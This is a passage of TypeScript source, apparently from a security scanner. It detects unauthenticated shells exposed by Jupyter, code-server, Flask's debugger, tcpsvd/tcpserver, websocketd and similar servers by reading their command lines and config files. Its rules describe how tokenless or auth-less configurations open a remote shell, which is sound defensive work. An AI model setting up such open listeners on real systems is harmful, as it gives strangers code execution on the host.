 * - Jupyter Server applications (notebook, lab, server, nbclassic): Terminals run a shell as the server's user, and
 *   kernels any code (Jupyter Server docs, "Security in the Jupyter Server": "access to the Jupyter Server means access
 *   to running arbitrary code", token authentication on by default, a password replacing it). A shell on `ip`
 *   (default localhost; '' and '*' every address) when a token is set empty and no password is set (ServerApp,
 *   NotebookApp, IdentityProvider alike);
 * - Kernel Gateway and Enterprise Gateway: every kernel request runs code, and `auth_token` is empty by default
 *   (jupyter-server/kernel_gateway gatewayapp.py: ip default 127.0.0.1, auth_token default KG_AUTH_TOKEN or ''): a
 *   shell on `ip` unless a token is set;
 * - any other application given an `ip` beyond loopback: one the pack does not read, refused as a served shell.
 * A server or gateway with a configuration file the pack cannot read (readConfig, jupyterConfigSettings; a --config
 * file user data does not write) is a shell on the command line's ip, else on any address.
 */
function jupyterListeners(
    args: readonly string[],
    name: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const at = name === "jupyter" ? args.findIndex(w => !w.startsWith("-")) : -1;
    const sub = name === "jupyter" ? (args[at] ?? "") : name.replace(/^jupyter-/, "");
    if (
        sub === "" ||
        JUPYTER_CLIENTS.test(sub) ||
        JUPYTER_APP_COMMANDS.test(args[at + 1] ?? "") ||
        args.some(w => /^--(generate-config|help|help-all|version)$/.test(w))
    )
        return [];
    const configPaths = longValues(args, /^config$/);
    // Root's own configuration directory is ~/.jupyter, or JUPYTER_CONFIG_DIR, and JUPYTER_CONFIG_PATH adds directories
    // before the system ones (Jupyter docs, "Common Directories and File Locations": "Set this environment variable to
    // use a particular directory, other than the default, for Jupyter config files"). Each value the script assigns is
    // judged besides the default (ScriptView): the server is refused when any of them opens it.
    const assigned = (variable: string) => view.environment.get(variable) ?? [];
    const configPath = assigned("JUPYTER_CONFIG_PATH").flatMap(value =>
        value === undefined
            ? [undefined]
            : value
                  .split(":")
                  .filter(d => d !== "")
                  .map(d => posix.normalize(d)),
    );
    const ownDirs = [...new Set([JUPYTER_CONFIG_DIRS[0], ...assigned("JUPYTER_CONFIG_DIR")])];
    // {sys.prefix}/etc/jupyter of the Python running Jupyter (same doc; `jupyter --paths` lists a venv's or conda
    // env's own, e.g. /opt/conda/envs/jl/etc/jupyter): each prefix of a Jupyter executable the script runs.
    const prefixDirs = (view.jupyterPrefixes ?? [])
        .map(x => posix.join(x, "etc/jupyter"))
        .filter(d => !JUPYTER_CONFIG_DIRS.includes(d));
    return ownDirs.flatMap(own =>
        jupyterServerListeners(
            args,
            sub,
            configPaths,
            [own, ...configPath, ...prefixDirs, ...JUPYTER_CONFIG_DIRS.slice(1)],
            fileText,
            view,
            prefixDirs,
        ),
    );
}

/**
 * jupyterListeners for one set of configuration directories (`dirs`, undefined for one the pack cannot compute).
 * Files in the order loaded, then the command line's `--Class.trait=value` (or `--trait value`): later wins. A file
 * the pack cannot read (readConfig) may set anything: one named by --config, one user data changed in a way the pack
 * cannot compute, one it wrote that does not read whole (jupyterConfigSettings), any in a directory moved by
 * JUPYTER_CONFIG_DIR or JUPYTER_CONFIG_PATH to a path the pack cannot compute or where user data wrote no
 * configuration file (whatever else filled it: the image, a download).
 */
function jupyterServerListeners(
    args: readonly string[],
    sub: string,
    configPaths: readonly string[],
    dirs: readonly (string | undefined)[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    prefixDirs: readonly string[] = [],
): Listener[] {
    const settings = new Map<string, string | undefined>();
    const unreadConfig: string[] = [];
    // A prefix's directory is what its installation left (like the system ones) unless user data changes it there.
    const within = (path: string) => prefixDirs.find(d => path.startsWith(`${d}/`));
    for (const dir of dirs) {
        const files = dir === undefined ? [] : JUPYTER_CONFIG_NAMES.map(f => `${dir}/${f}`);
        if (dir === undefined || !dir.startsWith("/"))
            unreadConfig.push(`a Jupyter configuration directory at ${dir ?? "a path the pack cannot compute"}`);
        else if (
            !JUPYTER_CONFIG_DIRS.includes(dir) &&
            !prefixDirs.includes(dir) &&
            files.every(f => readConfig(f, fileText, view) === undefined)
        )
            unreadConfig.push(`${dir}, a Jupyter configuration directory user data does not write`);
    }
    // Loaded as traitlets loads them, so a later file overrides an earlier one: each file name in turn, over the
    // directories in ascending priority (`dirs` is highest first, as jupyter_config_path lists them: root's own
    // directory over JUPYTER_CONFIG_PATH over the system ones; traitlets Application._load_config_files "path list
    // is in descending priority order, so load files backwards"), `.py` before `.json`; `--config` last.
    const ascending = [...dirs].reverse();
    for (const path of [
        ...JUPYTER_CONFIG_APPS.flatMap(app =>
            ascending.flatMap(d => (d === undefined ? [] : [`${d}/jupyter_${app}.py`, `${d}/jupyter_${app}.json`])),
        ),
        ...configPaths,
    ]) {
        const text = readConfig(path, fileText, view, within(path));
        const read = typeof text === "string" ? jupyterConfigSettings(path, text) : undefined;
        if (read) for (const [k, v] of read) settings.set(k, v);
        else if (text !== undefined || configPaths.includes(path)) unreadConfig.push(path);
    }
    const commandLineIp: string[] = [];
    args.forEach((w, i) => {
        const m = /^--(?:(\w+)\.)?(ip|token|password|hashed_password|auth_token)(?:=([\s\S]*))?$/.exec(w);
        if (!m) return;
        // An alias (`--ip`) sets the application's own trait, whichever class a file named it under.
        if (m[1] === undefined) for (const k of [...settings.keys()]) if (k.endsWith(`.${m[2]}`)) settings.delete(k);
        settings.set(`${m[1] ?? "*"}.${m[2]}`, m[3] ?? args[i + 1] ?? "");
        if (m[2] === "ip") commandLineIp.push(m[3] ?? args[i + 1] ?? "");
    });
    const values = (trait: RegExp) => [...settings].filter(([k]) => trait.test(k.split(".")[1])).map(([, v]) => v);
    const unset = (v: string | undefined) => v === "" || v === undefined;
    const ip = values(/^ip$/).map(v => v ?? "*");
    const served = JUPYTER_SERVERS.test(sub) || JUPYTER_GATEWAYS.test(sub);
    // A configuration the pack cannot read may set an empty token and any address: only the command line's ip,
    // which overrides every file, is known.
    if (served && unreadConfig.length > 0)
        return [
            {
                server: `jupyter ${sub} as ${unreadConfig.join(", ")} sets, a configuration the pack cannot read`,
                binds: commandLineIp,
                serves: { shell: "sh" },
            },
        ];
    if (JUPYTER_GATEWAYS.test(sub))
        return values(/^auth_token$/).every(unset)
            ? [
                  {
                      server: `jupyter ${sub} without an auth_token (its default)`,
                      binds: ip.length > 0 ? ip : ["127.0.0.1"],
                      serves: { shell: "sh" },
                  },
              ]
            : [];
    if (!JUPYTER_SERVERS.test(sub))
        return ip.length > 0 && !loopbackOnly(ip)
            ? [
                  {
                      server: `jupyter ${sub}, an application the pack does not read, on an explicit address`,
                      binds: ip,
                      serves: { shell: "sh" },
                  },
              ]
            : [];
    return values(/^token$/).some(unset) && values(/^(hashed_)?password$/).every(unset)
        ? [
              {
                  server: `jupyter ${sub} without a token or password`,
                  binds: ip.length > 0 ? ip : ["localhost"],
                  serves: { shell: "sh" },
              },
          ]
        : [];
}

/**
 * A Jupyter configuration written outside root's Jupyter directories (JUPYTER_CONFIG_DIRS): read through
 * JUPYTER_CONFIG_DIR, JUPYTER_CONFIG_PATH or another user's ~/.jupyter by a server the pack cannot tie it to, so it is
 * judged by itself, as the server of its application reads it.
 */
function jupyterConfigElsewhere(path: string, content: string, how: string): NodeOpening[] {
    const app = /_(kernel|enterprise)_gateway_config\./.exec(path)?.[1];
    return listenerOpenings(
        jupyterListeners([`--config=${path}`], app ? `jupyter-${app}gateway` : "jupyter-server", p =>
            p === path ? content : undefined,
        ),
        `${path}, ${how}`,
    );
}

/**
 * `python -m` a Jupyter application (JUPYTER_MODULES; `python -m jupyter X` is `jupyter X`): the module named among
 * the interpreter's options, before any script or `-c` (python(1): -W and -X take a value).
 */
function jupyterModuleListeners(
    args: readonly string[],
    _: string | undefined,
    __: string,
    fileText?: (path: string) => string | undefined,
    view?: ScriptView,
): Listener[] {
    for (let i = 0; i < args.length; i++) {
        const w = args[i];
        if (/^-m/.test(w)) {
            const [module, rest] =
                w === "-m" ? [args[i + 1] ?? "", args.slice(i + 2)] : [w.slice(2), args.slice(i + 1)];
            if (module === "jupyter") return jupyterListeners(rest, "jupyter", fileText, view);
            const app = JUPYTER_MODULES[module];
            return app ? jupyterListeners(rest, `jupyter-${app}`, fileText, view) : [];
        }
        if (/^-[WX]$/.test(w)) i++;
        else if (!/^-[^-c]/.test(w)) break;
    }
    return [];
}

/**
 * VS Code in the browser, whose integrated terminal is a shell as its user: code-server with `auth: none` on
 * `bind-addr`, each from its configuration file with the command line over it (code-server docs, "FAQ"/"Usage"), and
 * openvscode-server and `code serve-web` with `--without-connection-token` on `--host` (default localhost). code-server
 * reads `--config`, else $CODE_SERVER_CONFIG, else config.yaml in its user's configuration directory
 * ($XDG_CONFIG_HOME/code-server, default ~/.config/code-server), writing a default one there when absent (coder/
 * code-server src/node/cli.ts readConfigFile, defaultConfigFile: password authentication on 127.0.0.1:8080). Every
 * CODE_SERVER_CONFIG and XDG_CONFIG_HOME value the script assigns is judged besides the default (ScriptView). A file
 * named by --config or CODE_SERVER_CONFIG that user data did not write, or whose content the pack cannot know, may set
 * anything.
 */
function browserIdeListeners(
    args: readonly string[],
    name: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
    home = "/root",
): Listener[] {
    if (name === "code" && args[0] !== "serve-web") return [];
    if (name !== "code-server")
        return args.includes("--without-connection-token")
            ? [
                  {
                      server: `${name} without authentication`,
                      binds: longValues(args, /^host$/).length > 0 ? longValues(args, /^host$/) : ["localhost"],
                      serves: { shell: "sh" },
                  },
              ]
            : [];
    const given = longValues(args, /^config$/).at(-1);
    const assigned = (variable: string) => view.environment.get(variable) ?? [];
    const files: { path: string | undefined; named: boolean }[] =
        given !== undefined
            ? [{ path: given, named: true }]
            : [
                  ...assigned("CODE_SERVER_CONFIG").map(path => ({ path, named: true })),
                  ...[`${home}/.config`, ...assigned("XDG_CONFIG_HOME")].map(dir => ({
                      path: dir === undefined ? undefined : `${dir}/code-server/config.yaml`,
                      named: false,
                  })),
              ];
    return files.flatMap(({ path, named }) => codeServerListeners(args, path, named, fileText, view));
}

/** code-server (browserIdeListeners) with its configuration at `path` (undefined: a path the pack cannot compute). */
function codeServerListeners(
    args: readonly string[],
    path: string | undefined,
    named: boolean,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const text = path === undefined ? null : readConfig(path, fileText, view);
    let config: Record<string, unknown> | undefined = {};
    try {
        if (typeof text === "string") config = obj(yamlDocs(text, path ?? "")[0]);
        else if (text === null || named) config = undefined;
    } catch {
        config = undefined;
    }
    const last = (key: string) =>
        [...(config?.[key] !== undefined ? [String(config[key])] : []), ...longValues(args, new RegExp(`^${key}$`))].at(
            -1,
        );
    const auth = last("auth");
    const bind = last("bind-addr");
    const unread =
        config === undefined
            ? ` (as ${path ?? "a configuration file at a path the pack cannot compute"}, a configuration the pack cannot read, may set)`
            : "";
    return auth === "none" || (config === undefined && auth === undefined)
        ? [
              {
                  server: `code-server without authentication${unread}`,
                  binds: bind !== undefined ? [bind] : config === undefined ? [] : ["127.0.0.1:8080"],
                  serves: { shell: "sh" },
              },
          ]
        : [];
}

/**
 * code-server's systemd unit `code-server@USER` (code-server docs, "Install": `sudo systemctl enable --now
 * code-server@$USER`) runs code-server as USER with no arguments, reading USER's configuration.
 */
function codeServerUnitListeners(
    unit: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const user = /^code-server@(.+)$/.exec(unit)?.[1];
    if (user === undefined) return [];
    return browserIdeListeners([], "code-server", fileText, view, user === "root" ? "/root" : `/home/${user}`);
}

/**
 * mitmproxy, mitmdump and mitmweb (mitmproxy docs, "Modes of Operation": `regular`, the default, is an HTTP(S) forward
 * proxy, `socks5` too, `upstream:SPEC` through the proxy SPEC names; "Options": listen_host, default every address; a mode's own
 * `@[host:]port`): a forward proxy per such mode. block_private with block_global leaves loopback clients only. Options
 * come from config.yaml in the configuration directory (`--set confdir=DIR`, default ~/.mitmproxy: mitmproxy docs,
 * "Options", "The mitmproxy tools share a common YAML configuration file located at ~/.mitmproxy/config.yaml"), then
 * from the command line; a config.yaml that does not parse leaves the defaults.
 */
function mitmproxyListeners(
    args: readonly string[],
    _?: string,
    __?: string,
    fileText?: (path: string) => string | undefined,
): Listener[] {
    const settings = longValues(args, /^set$/).map(kv => /^([^=]*)=?([\s\S]*)$/.exec(kv)!);
    const setting = (key: string) => settings.filter(([, k]) => k === key).map(([, , v]) => v);
    const file = (dir: string) => fileText?.(`${dir}/config.yaml`) ?? fileText?.(`${dir}/config.yml`);
    let config: Record<string, unknown> = {};
    try {
        const text = file(
            setting("confdir")
                .at(-1)
                ?.replace(/^~(?=\/|$)/, "/root") ?? "/root/.mitmproxy",
        );
        if (text !== undefined) config = obj(yamlDocs(text, "mitmproxy's config.yaml")[0]);
    } catch {
        config = {};
    }
    const configured = (key: string) => (config[key] === undefined ? [] : list(config[key]).map(String));
    const flagModes = [
        ...longValues(args, /^mode$/),
        ...args.flatMap((w, i) => (/^-m/.test(w) ? [w.slice(2) || (args[i + 1] ?? "")] : [])),
        ...setting("mode"),
    ];
    const modes = flagModes.length > 0 ? flagModes : configured("mode");
    const listenHost =
        [...configured("listen_host"), ...longValues(args, /^listen-host$/), ...setting("listen_host")].at(-1) ?? "";
    // block_private (default false) and block_global (default true), the last value set.
    const on = (key: string) => [...configured(key), ...setting(key)].at(-1)?.toLowerCase();
    const localClients =
        on("block_private") !== undefined && on("block_private") !== "false" && on("block_global") !== "false";
    return (modes.length > 0 ? modes : ["regular"]).flatMap(spec => {
        const m = /^([a-z0-9]+)(?::([^@]*))?(?:@(?:(.*):)?(\d+))?$/.exec(spec);
        // upstream:SPEC connects through the proxy it names: from the instance only when that one is on loopback.
        const upstreamHere = m?.[1] === "upstream" && loopbackOnly([m[2] ?? ""]);
        if (!m || !(/^(regular|socks5)$/.test(m[1]) || upstreamHere)) return [];
        const host = m[3] ?? listenHost;
        return [
            {
                server: `${spec} mode of mitmproxy`,
                binds: host ? [host] : [],
                allowed: localClients ? ["127.0.0.1"] : [],
                serves: { proxy: true as const },
            },
        ];
    });
}

/**
 * Super-servers that run a program on each connection, its standard input and output the socket: ipsvd/busybox
 * `tcpsvd`/`udpsvd [opts] IP PORT PROG...` (busybox usage: "Create TCP socket, bind to IP:PORT and listen for
 * incoming connection. Run PROG for each connection", "IP  IP to listen on, 0 = all"; -u/-l/-c/-C/-b/-x/-i/-t take
 * values, access rules in -i/-x the pack does not read) and ucspi-tcp `tcpserver [opts] HOST PORT PROG...` (its
 * values attached or next: -c -x -B -g -u -b -l -t -I; host 0 is every address).
 */
function superServerListeners(args: readonly string[], _: string | undefined, name: string): Listener[] {
    const { operands } = getopt(args, name === "tcpserver" ? "cxBgubltI" : "cCbulxit", [], true);
    const [host, port, ...program] = operands;
    return program.length === 0
        ? []
        : [
              {
                  server: `${name} ${host} ${port} running ${program.join(" ")}`,
                  binds: [host],
                  port,
                  serves: { shell: commandLine(program) },
              },
          ];
}

/**
 * websocketd (joewalnes/websocketd, `websocketd --help`): "--address=ADDRESS Interfaces to bind to ... Default: \"\"
 * (all)", each connection running COMMAND with the client's messages on its standard input (like ttyd's command);
 * --staticdir, --cgidir and --dir serve the files or programs of a directory. Go flags: `-port=8080` is `--port=8080`,
 * options end at the command.
 */
function websocketdListeners(args: readonly string[], cwd: string | undefined): Listener[] {
    const { options, operands } = getopt(
        args.map(w => w.replace(/^-(?=[a-z]{2})/, "--")),
        "",
        [
            ...["port", "address", "staticdir", "cgidir", "dir", "loglevel", "passenv", "maxforks", "closems"],
            ...["header", "header-ws", "header-http", "origin", "sslcert", "sslkey", "redirport"],
        ],
        true,
    );
    const at = { binds: optionValues(options, "--address") };
    return [
        ...(operands.length > 0
            ? [{ server: `websocketd ${operands.join(" ")}`, ...at, serves: { shell: commandLine(operands) } }]
            : []),
        ...optionValues(options, "--staticdir", "--cgidir", "--dir").map(dir => ({
            server: `websocketd serving ${dir}`,
            ...at,
            serves: { files: servedDirectory(dir, cwd) },
        })),
    ];
}

/**
 * PHP's built-in web server (PHP manual, "Built-in web server": `php -S localhost:8000 [-t docroot]`, "the current
 * working directory ... is the document root unless the -t option is used"), serving its document root's files and
 * running its scripts; php(1)'s -c -d -f -r -B -R -F -E -z -S -t take values.
 */
function phpServerListeners(args: readonly string[], cwd: string | undefined): Listener[] {
    const { options } = getopt(args, "cdfrBRFEzSt", []);
    const listen = optionValues(options, "-S").at(-1);
    return listen === undefined
        ? []
        : [
              {
                  server: `php -S ${listen}`,
                  binds: [listen],
                  serves: { files: servedDirectory(optionValues(options, "-t").at(-1), cwd) },
              },
          ];
}

/**
 * A server reading its shares from a configuration file the command names (or its default): judged by what user
 * data wrote there (`fileText`), the command line's settings over it. A file user data did not write is the AMI's
 * at the default path (it has none with shares; one user data writes is judged where written) and one the pack
 * cannot read anywhere else: it serves what `unknown` says (a directory the pack cannot know, by default).
 */
function configuredListeners(
    server: string,
    path: string,
    byDefault: string,
    overridden: boolean,
    fileText: ((path: string) => string | undefined) | undefined,
    read: (text: string) => Listener[],
    binds: readonly string[],
    unknown: Listener["serves"] = { files: undefined },
): Listener[] {
    const text = fileText?.(path);
    if (text !== undefined) return path === byDefault && !overridden ? [] : read(text);
    return path === byDefault
        ? []
        : [{ server: `${server} with ${path}, a configuration the pack cannot read`, binds, serves: unknown }];
}

/** The default configuration files of the inetd and xinetd super-servers (inetd(8), xinetd(8)). */
const INETD_CONF = "/etc/inetd.conf";
const XINETD_CONF = "/etc/xinetd.conf";

/**
 * A super-server's configuration the command names: inetd's CONFFILE operand (BusyBox inetd usage: "inetd [-fe] [-q
 * N] [-R N] [CONFFILE]", "default /etc/inetd.conf"; inetd(8) "[configuration file]") and xinetd's `-f config_file`
 * (xinetd(8), default /etc/xinetd.conf), read as the default file is where written (inetdListeners,
 * xinetdListeners). One user data does not write may run any program on any port: a program the pack does not read,
 * on every address (configuredListeners).
 */
function superServerConfigListeners(
    args: readonly string[],
    cwd: string | undefined,
    name: string,
    fileText?: (path: string) => string | undefined,
): Listener[] {
    const xinetd = name === "xinetd";
    const given = xinetd
        ? args.includes("-f")
            ? args[args.indexOf("-f") + 1]
            : undefined
        : getopt(args, "qRacCps", []).operands[0];
    if (given === undefined) return [];
    // A relative path from a working directory the pack does not know is one it cannot read.
    const path = servedDirectory(given, cwd) ?? given;
    const [byDefault, read] = xinetd ? [XINETD_CONF, xinetdListeners] : [INETD_CONF, inetdListeners];
    return configuredListeners(name, path, byDefault, false, fileText, read, [], { unread: `${name} ${path}` });
}

/** The rsync daemon (rsync(1) --daemon, --config=FILE default /etc/rsyncd.conf, --address, -M/--dparam). */
function rsyncDaemonListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
): Listener[] {
    const { options } = getopt(args, "M", ["config", "address", "dparam", "port", "bwlimit", "log-file", "sockopts"]);
    if (!options.some(([k]) => k === "--daemon")) return [];
    const path = servedDirectory(optionValues(options, "--config").at(-1) ?? RSYNCD_CONF, cwd) ?? "";
    const overrides = [
        ...optionValues(options, "-M", "--dparam").map(p => p.split("=").map(x => x.trim()) as [string, string]),
        ...optionValues(options, "--address").map(a => ["address", a] as [string, string]),
    ];
    return configuredListeners(
        "rsync --daemon",
        path,
        RSYNCD_CONF,
        overrides.length > 0,
        fileText,
        text => rsyncdListeners(text, overrides),
        optionValues(options, "--address"),
    );
}

/** smbd with -s/--configfile FILE (smbd(8); default /etc/samba/smb.conf, judged where written). */
function smbdListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
): Listener[] {
    const { options } = getopt(args, "sdlpO", ["configfile", "debuglevel", "log-basename", "port", "option"]);
    const path = servedDirectory(optionValues(options, "-s", "--configfile").at(-1) ?? SMB_CONF, cwd) ?? "";
    return configuredListeners("smbd", path, SMB_CONF, false, fileText, sambaListeners, []);
}

/**
 * Flask's development server with Werkzeug's debugger on: `flask [--app APP] [--debug] run [--debug] [-h HOST]` (Flask
 * CLI "Debug Mode": `flask --app hello run --debug`; `run --debugger/--no-debugger`: "By default the debugger is
 * active if debug is enabled"; `-h, --host`: "The interface to bind to", default 127.0.0.1). The debugger's console
 * "allows the execution of arbitrary code" (Werkzeug, "Debugging Applications"): Python as the server's user, a served
 * shell, behind its PIN (printed to the server's output: a password login, as ttyd -c is) or none
 * (WERKZEUG_DEBUG_PIN=off). Debug mode only from FLASK_DEBUG in the environment is read by the fail-closed rule
 * (SERVERS `partial`).
 */
function flaskDebuggerListeners(
    args: readonly string[],
    cwd?: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const run = args.findIndex((w, i) => w === "run" && !/^(--app|-A|-e|--env-file)$/.test(args[i - 1] ?? ""));
    if (run < 0) return [];
    const dotenvFiles = flaskDotenvFiles(args, cwd, fileText, view);
    // Loaded in order, a later file's value over an earlier's; one the pack cannot compute may set anything.
    const dotenv = dotenvFiles.some(f => view.changed.has(f))
        ? undefined
        : new Map(
              dotenvFiles.flatMap(f =>
                  environmentFileVariables(fileText?.(f) ?? "").map(v => [v.name, v.value] as const),
              ),
          );
    const last = (flag: RegExp) => [...args].reverse().find(w => flag.test(w));
    // Flask get_debug_flag: FLASK_DEBUG set and not "0", "false" or "no" turns debug mode on.
    const dotenvDebug = dotenv === undefined || /^(?!(0|false|no)$)./i.test(dotenv.get("FLASK_DEBUG") ?? "");
    const debug = (last(/^--(no-)?debug$/) ?? (dotenvDebug ? "--debug" : undefined)) === "--debug";
    const debuggerFlag = last(/^--(no-)?debugger$/);
    if (!(debuggerFlag === "--debugger" || (debug && debuggerFlag === undefined))) return [];
    const { options } = getopt(args.slice(run + 1), "hp", ["host", "port", "cert", "key", "extra-files"]);
    const host =
        optionValues(options, "-h", "--host").at(-1) ??
        (dotenv === undefined ? undefined : (dotenv.get("FLASK_RUN_HOST") ?? "127.0.0.1"));
    return [
        {
            server: "flask run with Werkzeug's debugger (a Python console)",
            binds: host === undefined ? [] : [host],
            serves: { shell: "sh" },
        },
    ];
}

/**
 * The dotenv files the flask command loads into its environment, in load order (Flask CLI "Environment Variables From
 * dotenv": with python-dotenv installed, "running the flask command will set environment variables defined in the
 * files .env and .flaskenv"; Flask CHANGES 1.0, pallets/flask#2416; cli.load_dotenv merges .flaskenv, then .env, then
 * `-e, --env-file FILE`, a variable already in the environment winning): each the nearest in the working directory or
 * a parent (python-dotenv find_dotenv: "in the current directory or any of its parents"). Only files user data writes
 * or changes count: an unwritten one is not read.
 */
function flaskDotenvFiles(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): string[] {
    if (cwd === undefined || fileText === undefined) return [];
    const known = (path: string) => fileText(path) !== undefined || view.changed.has(path);
    const nearest = (name: string): string[] => {
        for (let dir = cwd; ; dir = posix.dirname(dir)) {
            if (known(posix.join(dir, name))) return [posix.join(dir, name)];
            if (dir === "/") return [];
        }
    };
    const envFiles = args.flatMap((w, i) =>
        /^(-e|--env-file)$/.test(args[i - 1] ?? "") ? [w] : w.startsWith("--env-file=") ? [w.slice(11)] : [],
    );
    return [...nearest(".flaskenv"), ...nearest(".env"), ...envFiles.map(f => posix.resolve(cwd, f)).filter(known)];
}

/** The dotenv files a `flask` command loads (flaskDotenvFiles), as environment files given to it (environmentListeners). */
const flaskDotenvGiven = (
    words: readonly string[],
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
): GivenVariable[] =>
    posix.basename(words[0] ?? "") === "flask"
        ? flaskDotenvFiles(words.slice(1), cwd, fileText, NO_VIEW).map(file => ({ file, program: "flask" }))
        : [];

/** Python's literal False, None or 0: a keyword argument or setting turned off (any other value may be on). */
const PYTHON_OFF = /^(False|None|0)$/;
/** Receivers of a `.run(...)` call that are no Flask app (subprocess.run, asyncio.run, uvicorn.run). */
const NOT_FLASK_RUN = /^(subprocess|asyncio|uvicorn|trio|anyio|curio|loop)$/;

/**
 * A Python call's arguments (its text between the parentheses), `argument(name, position)` the one passed by keyword
 * or at that position (0-based), else a `**mapping` (or, for a position, `*sequence`) that may hold it, else undefined.
 */
function pythonCallArguments(call: string): {
    positional: string[];
    keyword: Map<string, string>;
    argument: (name: string, position?: number) => string | undefined;
} {
    const items = pythonSplit(call, ",");
    const keyword = new Map(
        items.flatMap(item => {
            const named = /^(\w+)\s*=(?!=)\s*([\s\S]*)$/.exec(item);
            return named ? [[named[1], named[2]] as const] : [];
        }),
    );
    const positional = items.filter(item => !/^\w+\s*=(?!=)/.test(item) && !item.startsWith("**"));
    const spread = positional.findIndex(item => item.startsWith("*"));
    const mapping = items.find(item => item.startsWith("**"));
    const argument = (name: string, position?: number) =>
        keyword.get(name) ??
        (position === undefined
            ? undefined
            : spread >= 0 && spread <= position
              ? positional[spread]
              : positional[position]) ??
        mapping;
    return { positional, keyword, argument };
}

/** A host argument as binds: a string literal is that host; any other value may be every address. */
const pythonHostBinds = (host: string | undefined, otherwise: string[]) => {
    const literal = host === undefined ? undefined : pythonString(host);
    return host === undefined ? otherwise : literal !== undefined ? [literal] : [];
};

/**
 * Flask's debug state a file sets in code, the last of `app.debug = X`, `app.config["DEBUG"] = X`,
 * `app.config.update(DEBUG=X)` and `app.config.from_mapping(DEBUG=X)` (Flask "Configuration Handling": DEBUG, "Whether
 * debug mode is enabled"; Flask.debug is config["DEBUG"]), with where it is: undefined when it sets none. A load the
 * pack does not read, `from_object`, `from_pyfile`, `from_envvar`, `from_file`, `from_prefixed_env`, or
 * `update`/`from_mapping` of a mapping (Flask API "Config": from_object "loads only the uppercase attributes of the
 * module/class", the documented `class DevelopmentConfig(Config): DEBUG = True`), may set DEBUG: on (fail closed).
 */
function flaskCodeDebug(
    text: string,
    off: (value: string) => boolean = v => PYTHON_OFF.test(v),
): { on: boolean; index: number } | undefined {
    const set = [
        ...text.matchAll(/\.debug\s*=(?!=)\s*([^\s;#]+)/g),
        ...text.matchAll(/\.config\[\s*["']DEBUG["']\s*\]\s*=(?!=)\s*([^\s;#]+)/g),
        ...[...text.matchAll(/\.config\.(update|from_mapping)\(([^()]*)\)/g)].flatMap(m => {
            const { positional, keyword } = pythonCallArguments(m[2]);
            const debug = keyword.get("DEBUG") ?? (positional.length > 0 || m[2].includes("**") ? "unread" : undefined);
            return debug === undefined ? [] : [Object.assign([m[0], debug], { index: m.index })];
        }),
        ...[...text.matchAll(/\.config\.from_(?:object|pyfile|envvar|file|prefixed_env)\(/g)].map(m =>
            Object.assign([m[0], "unread"], { index: m.index }),
        ),
    ].sort((x, y) => (x.index ?? 0) - (y.index ?? 0));
    const last = set.at(-1);
    return last === undefined ? undefined : { on: last[1] === "unread" || !off(last[1]), index: last.index ?? 0 };
}

/**
 * The names a Python file binds to other objects (Python reference "The import statement": `import a.b` binds a to
 * module a, `import a.b as c` binds c to a.b, `from m import f as g` binds g to m.f, a relative `from .m import f`
 * keeps its dots; `from m import *` binds m's names), and by assignment `NAME = OTHER` or `NAME = OTHER(...)` (an alias
 * or what a factory returns); `partials` the names bound to `functools.partial(f, *args, **keywords)` (however
 * functools or partial is imported), each as f with the arguments it binds first (Python "functools.partial": "When
 * called ... behave like func called with the positional arguments args and keyword arguments keywords", the call's
 * own keywords over them); `results` the assigned names a call's result binds; `modules` every module it imports (`importlib.resources.files("m")` too, which imports
 * m: PYTHON_RESOURCE_CALL).
 */
interface PythonNames {
    imports: Map<string, string>;
    assigned: Map<string, string>;
    /** The assigned names bound to what a call returned (`app = Flask(...)`), not to the object named (an alias). */
    results: Set<string>;
    partials: Map<string, { target: string; bound: string }>;
    stars: string[];
    modules: string[];
}
/** pythonNames of the texts read last (the readers ask for the same file's names many times). */
const PYTHON_NAMES_CACHE = new Map<string, PythonNames>();
function pythonNames(text: string): PythonNames {
    const cached = PYTHON_NAMES_CACHE.get(text);
    if (cached !== undefined) return cached;
    const names = pythonNamesRead(text);
    if (PYTHON_NAMES_CACHE.size >= 64) PYTHON_NAMES_CACHE.delete(PYTHON_NAMES_CACHE.keys().next().value as string);
    PYTHON_NAMES_CACHE.set(text, names);
    return names;
}
function pythonNamesRead(text: string): PythonNames {
    const imports = new Map<string, string>();
    const assigned = new Map<string, string>();
    const partials = new Map<string, { target: string; bound: string }>();
    const stars: string[] = [];
    const modules: string[] = [];
    const results = new Set<string>();
    const items = (list: string) =>
        list
            .replace(/[()\\]/g, " ")
            .split(",")
            .flatMap(item => {
                const m = /^\s*([\w.]+|\*)(?:\s+as\s+(\w+))?\s*$/.exec(item);
                return m ? [{ name: m[1], alias: m[2] }] : [];
            });
    // Import statements read in the code with its strings blanked (same length: a string showing one is none).
    const code = pythonStringsBlanked(text);
    for (const m of code.matchAll(PYTHON_FROM_IMPORT)) {
        modules.push(m[1]);
        for (const { name, alias } of items(m[2])) {
            if (name === "*") {
                stars.push(m[1]);
                continue;
            }
            const full = m[1].endsWith(".") ? m[1] + name : `${m[1]}.${name}`;
            imports.set(alias ?? name, full);
            modules.push(full);
        }
    }
    for (const m of code.matchAll(PYTHON_IMPORT))
        for (const { name, alias } of items(m[1])) {
            imports.set(alias ?? name.split(".")[0], alias === undefined ? name.split(".")[0] : name);
            modules.push(name);
        }
    const names = { imports, assigned, results, partials, stars, modules };
    // Each statement `NAME = OTHER` or `NAME = OTHER(...)` (pythonLogicalStatements: one on a compound header's line
    // too, `if x: handler = partial(...)`, its arguments over as many lines as they take).
    for (const st of pythonLogicalStatements(text)) {
        const m = /^(\w+)[ \t]*=(?!=)[ \t]*([A-Za-z_][\w.]*)[ \t]*(\()?/.exec(st.text);
        if (!m || imports.has(m[1]) || m[2] === m[1]) continue;
        const args = m[3] === undefined ? undefined : parenthesized(st.text, m[0].length - 1);
        const bound =
